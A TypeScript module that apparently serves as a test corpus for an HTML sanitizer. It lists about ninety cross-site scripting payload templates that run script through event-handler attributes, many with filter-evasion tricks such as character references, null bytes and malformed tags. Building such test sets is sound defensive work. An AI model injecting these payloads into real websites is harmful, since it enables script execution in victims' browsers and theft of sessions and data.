import { type Attack, references } from "./attack.ts";

/** Event handlers: each family of events, on elements that fire them by themselves or when they are touched. */
export const handlers: Attack[] = [
	// Pictures that fail, in every spelling of the attribute.
	(run) => `<img src=x onerror=${run}>`,
	(run) => `<img src="x" onerror="${run}">`,
	(run) => `<IMG SRC=x ONERROR='${run}'>`,
	(run) => `<img src=x onerror=\`${run}\`>`,
	(run) => `<img/src=x/onerror=${run}>`,
	(run) => `<img\nsrc=x\nonerror\n=\n${run}>`,
	(run) => `<img\fsrc=x\fonerror=${run}>`,
	(run) => `<img\tsrc=x\t\tonerror\t=\t"${run}"\t>`,
	(run) => `<img src=x onerror=${references(run, 16)}>`,
	(run) => `<img src=x onerror=${references(run, 10, { digits: 7, end: "" })}>`,
	(run) => `<img src=x on&#101;rror=${run} onerror=${run}>`,
	(run) => `<img src=x alt="" "onerror=${run}>`,
	(run) => `<img src=x a="b"onerror=${run}>`,
	(run) => `<img src=x onerror\0=${run}>`,
	(run) => `<img src=x \0onerror=${run}>`,
	(run) => `<img """><img src=x onerror=${run}>">`,
	(run) => `<img src="/stock/lake-camp-640.webp" onload=${run}>`,
	(run) => `<img src=x src=y onerror="" onerror=${run} ONERROR=${run}>`,
	(run) => `<img src=x onerror=${run}`,
	(run) => `<img src=x onerror=${run} <p>Words</p>`,
	(run) => `<image src=x onerror=${run}>`,
	(run) => `<image xlink:href=x href=x onerror=${run}>`,
	(run) => `<picture><source srcset=x><img srcset="x 1x" onerror=${run}></picture>`,
	(run) => `<input type=image src=x onerror=${run}>`,
	(run) => `<img onerror="${run}" src="x" ${'data-a="b" '.repeat(2000)}>`,
	// Loading of other things.
	(run) => `<body onload=${run}>`,
	(run) => `<body onpageshow=${run} onresize=${run} onhashchange=${run} onpopstate=${run} onmessage=${run}>`,
	(run) => `<body onbeforeprint=${run} onafterprint=${run} onbeforeunload=${run} onunload=${run} onpagehide=${run}>`,
	(run) => `<body onerror=${run} onunhandledrejection=${run} onlanguagechange=${run} ononline=${run} onstorage=${run}>`,
	(run) => `<html onclick=${run} onmousemove=${run}><head onclick=${run}>`,
	(run) => `<frameset onload=${run}><frame onload=${run}></frameset>`,
	(run) => `<iframe onload=${run}></iframe>`,
	(run) => `<iframe src="about:blank" onload="${run}">`,
	(run) => `<object data=x onerror=${run}>`,
	(run) => `<embed src="about:blank" onload=${run} onfocus=${run}>`,
	(run) => `<link rel=stylesheet href=x onerror=${run} onload=${run}>`,
	(run) => `<style onload=${run}></style>`,
	(run) => `<script src=x onerror=${run}></script>`,
	(run) => `<svg onload=${run}>`,
	(run) => `<svg/onload=${run}//`,
	(run) => `<svg><svg onload=${run}></svg></svg>`,
	(run) => `<track default src=x onerror=${run}>`,
	(run) => `<video src=x onerror=${run}></video>`,
	(run) => `<video><source src=x onerror=${run}></video>`,
	(run) => `<video poster=x onloadstart=${run} onsuspend=${run} src="data:video/mp4,"></video>`,
	(run) => `<audio src=x onerror=${run} onloadstart=${run} autoplay></audio>`,
	(run) =>
		`<audio controls autoplay onplay=${run} oncanplay=${run} onprogress=${run} src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA="></audio>`,
	// Focus, that needs nobody.
	(run) => `<input autofocus onfocus=${run}>`,
	(run) => `<input onfocus=${run} autofocus tabindex=1 onblur=${run}>`,
	(run) => `<textarea autofocus onfocus=${run}></textarea>`,
	(run) => `<select autofocus onfocus=${run}><option>1</option></select>`,
	(run) => `<button autofocus onfocus=${run}>Press</button>`,
	(run) => `<p autofocus tabindex=0 onfocus=${run}>Words</p>`,
	(run) => `<a href="/about" autofocus onfocus=${run} onfocusin=${run}>Words</a>`,
	(run) => `<h2 contenteditable autofocus onfocus=${run} onbeforeinput=${run} oninput=${run}>Words</h2>`,
	(run) => `<keygen autofocus onfocus=${run}>`,
	// Opening and closing.
	(run) => `<details open ontoggle=${run}><summary>Words</summary></details>`,
	(run) => `<details ontoggle=${run}><summary>Words</summary>More</details>`,
	(run) => `<dialog open onclose=${run} oncancel=${run}><form method=dialog><button>Close</button></form></dialog>`,
	(run) =>
		`<button popovertarget=pop>Open</button><div popover id=pop onbeforetoggle=${run} ontoggle=${run}>Words</div>`,
	(run) => `<button commandfor=cmd command=show-modal>Open</button><dialog id=cmd oncommand=${run}>Words</dialog>`,
	(run) => `<div hidden=until-found onbeforematch=${run}>Words</div>`,
	// Movement.
	(run) => `<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart=${run}>Words</p>`,
	(run) =>
		`<style>@keyframes k{to{top:1px}}p{animation:k 1ms 2}</style><p onanimationend=${run} onanimationiteration=${run}>Words</p>`,
	(run) => `<p style="animation:pulse 1s" onwebkitanimationstart=${run} onanimationstart=${run}>Words</p>`,
	(run) =>
		`<style>p{transition:color 1ms}p:target,p:hover{color:red}</style><p id=t ontransitionrun=${run} ontransitionend=${run}>Words</p>`,
	(run) => `<marquee onstart=${run} onbounce=${run} onfinish=${run} loop=1>Words</marquee>`,
	(run) => `<div style="content-visibility:auto" oncontentvisibilityautostatechange=${run}>Words</div>`,
	(run) =>
		`<p style="overflow:auto;height:9px" onscroll=${run} onscrollend=${run} onscrollsnapchange=${run}>A<br>B<br>C</p>`,
	// Pointer, mouse, touch, keys, clipboard, drag.
	(run) => `<p onclick=${run} onauxclick=${run} ondblclick=${run} oncontextmenu=${run}>Words</p>`,
	(run) => `<strong onmouseover="${run}" onmouseenter="${run}" onmousemove="${run}" onmouseout="${run}">Words</strong>`,
	(run) =>
		`<b onpointerover=${run} onpointerdown=${run} onpointerrawupdate=${run} ongotpointercapture=${run}>Words</b>`,
	(run) => `<em ontouchstart=${run} ontouchend=${run} onwheel=${run} onmousewheel=${run}>Words</em>`,
	(run) => `<li onkeydown=${run} onkeyup=${run} onkeypress=${run} tabindex=0>Words</li>`,
	(run) => `<td oncopy=${run} oncut=${run} onpaste=${run} onbeforecopy=${run} onselectstart=${run}>Words</td>`,
	(run) =>
		`<blockquote draggable=true ondragstart=${run} ondragover=${run} ondrop=${run} ondragend=${run}>Words</blockquote>`,
	(run) => `<table onclick=${run}><tr onmouseover=${run}><th onmousedown=${run}>1</th></tr></table>`,
	(run) => `<a onmouseover="${run}">Words</a>`,
	(run) => `<a href=# onclick='${run}' onpointerup=${run}>Words</a>`,
	(run) => `<hr onmouseover=${run}><br onclick=${run}>`,
	(run) => `<!-- --><code onmousedown = "${run}" title="a>b">Words</code>`,
	// Forms.
	(run) => `<form onsubmit=${run} action="/about"><button>Send</button></form>`,
	(run) =>
		`<form onreset=${run} onformdata=${run} oninvalid=${run}><input required><button type=reset>Clear</button></form>`,
	(run) =>
		`<input value=1 oninput=${run} onchange=${run} onselect=${run} oninvalid=${run} onsearch=${run} type=search>`,
	(run) => `<form><input name=a oninvalid=${run} required><button>Send</button></form>`,
	// Made-up and future names.
	(run) =>
		`<p onwhatever=${run} on=${run} on-click=${run} onclick.=${run} :onclick=${run} @click=${run} v-on:click=${run}>Words</p>`,
	(run) => `<p xml:onclick=${run} svg:onclick=${run} ev:event=click data-on-click=${run}>Words</p>`,
	(run) => `<xss-element onclick=${run} onfocus=${run} tabindex=0 autofocus>Words</xss-element>`,
	(run) => `<slot onslotchange=${run} onclick=${run}>Words</slot>`,
	(run) => `<p is="x-y" onsecuritypolicyviolation=${run} onfullscreenchange=${run} onclick=${run}>Words</p>`,
];
